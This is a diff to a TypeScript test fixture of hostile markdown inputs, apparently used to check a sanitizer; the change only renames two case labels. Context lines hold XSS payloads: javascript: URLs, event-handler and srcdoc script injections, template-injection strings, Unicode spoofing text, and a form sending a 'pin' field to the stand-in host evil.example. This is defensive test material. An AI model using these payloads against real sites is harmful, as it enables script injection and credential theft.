@@ -18,7 +18,7 @@ export const PROSE_ATTACKS: readonly (readonly [name: string, markdown: string])
   ['a vector animation', '<svg><animate onbegin="window.hit=1" attributeName="x" dur="1s"></svg>'],
   ['mathematics with a link', '<math href="javascript:window.hit=1">x</math>'],
   ['a frame', '<iframe src="javascript:window.hit=1"></iframe>'],
-  ['a frame with a page of its own', '<iframe srcdoc="<script>parent.hit=1</script>"></iframe>'],
+  ['a frame that holds its page', '<iframe srcdoc="<script>parent.hit=1</script>"></iframe>'],
   ['an object', '<object data="javascript:window.hit=1"></object>'],
   ['an embedded thing', '<embed src="data:text/html,<script>window.hit=1</script>">'],
   ['a form that leaves', '<form action="https://evil.example"><input name="pin"></form>'],
@@ -83,7 +83,7 @@ export const PROSE_ATTACKS: readonly (readonly [name: string, markdown: string])
   ['entities of a tag', '&lt;script&gt;window.hit=1&lt;/script&gt;'],
   ['escapes of a tag', '\\<script\\>window.hit=1\\</script\\>'],
   ['a text that turns around', 'invoice\u202Egpj.exe and \u2066hidden\u2069'],
-  ['letters that nobody sees', 'pay\u200B\u2063pal \u{E0041}'],
+  ['invisible letters', 'pay\u200B\u2063pal \u{E0041}'],
   ['a null', 'a\u0000<script>window.hit=1</script>'],
   ['braces of a template', '{{constructor.constructor("window.hit=1")()}} ${window.hit=1}'],
 ];
